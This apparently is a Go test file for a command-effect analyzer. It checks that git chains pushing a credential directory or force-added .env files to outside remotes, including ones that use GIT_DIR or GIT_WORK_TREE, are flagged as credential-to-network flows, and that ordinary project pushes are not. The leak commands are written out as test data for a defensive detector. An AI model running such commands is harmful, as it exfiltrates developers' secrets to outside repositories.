package effect

import "testing"

// TestStagedCredentialDir checks that a repository made of a credential
// directory and pushed is a flow out, and one of the project is not.
func TestStagedCredentialDir(t *testing.T) {
	leak := "git -C /home/dev/.secret init -q && git -C /home/dev/.secret add -A && git -C /home/dev/.secret commit -qm x && git -C /home/dev/.secret push -q https://github.com/someone/x HEAD"
	if !hasEffect(effectsOf(leak), "flow:credential->network") {
		t.Errorf("no flow: %v", effectsOf(leak))
	}
	for _, line := range []string{"git add -A && git commit -qm wip && git push origin HEAD", "git add . && git push"} {
		for _, e := range effectsOf(line) {
			if e.Kind == Flow {
				t.Errorf("%q: %v", line, e)
			}
		}
	}
}

// TestStagedSecretFile checks that a secrets file staged by name and pushed
// is a flow out, whatever other commands stand between, and that the
// shapes written to be committed (.env.example) are not.
func TestStagedSecretFile(t *testing.T) {
	for _, leak := range []string{
		"git add -f .env && git commit -m wip && git push",
		"git add --force .env.production && git commit -qm x && git push origin feature/x",
		"git add -f .env; git commit -m s; git remote add bk https://github.com/k/m.git; git push bk HEAD:main",
	} {
		if !hasEffect(effectsOf(leak), "flow:credential->network") {
			t.Errorf("%q: no flow: %v", leak, effectsOf(leak))
		}
	}
	for _, line := range []string{
		"git add .env.example && git commit -m 'document settings' && git push",
		"git add src/config.ts .env.test && git commit -m x && git push",
	} {
		for _, e := range effectsOf(line) {
			if e.Kind == Flow {
				t.Errorf("%q: %v", line, e)
			}
		}
	}
}

// TestStagedWorkTreeWithGitDir checks that a credential directory staged
// as the work tree of a repository kept elsewhere (--git-dir, GIT_DIR) is
// still what the push sends: the repository directory is no operand.
func TestStagedWorkTreeWithGitDir(t *testing.T) {
	for _, leak := range []string{
		"git --git-dir /tmp/x.git --work-tree /home/dev/.secret add -A && git --git-dir /tmp/x.git push https://github.com/someone/x HEAD:main",
		"GIT_DIR=/tmp/x.git GIT_WORK_TREE=/home/dev/.secret git add -A && GIT_DIR=/tmp/x.git git push https://github.com/someone/x HEAD:main",
		"export GIT_WORK_TREE=/home/dev/.secret; git add -A && git commit -qm k && git push -q origin HEAD:k",
	} {
		if !hasEffect(effectsOf(leak), "flow:credential->network") {
			t.Errorf("%q: no flow: %v", leak, effectsOf(leak))
		}
	}
	for _, line := range []string{
		"git --git-dir /tmp/x.git --work-tree docs add -A && git --git-dir /tmp/x.git push origin gh-pages",
		"GIT_WORK_TREE=build git add -A && git commit -m build && git push",
	} {
		for _, e := range effectsOf(line) {
			if e.Kind == Flow {
				t.Errorf("%q: %v", line, e)
			}
		}
	}
}
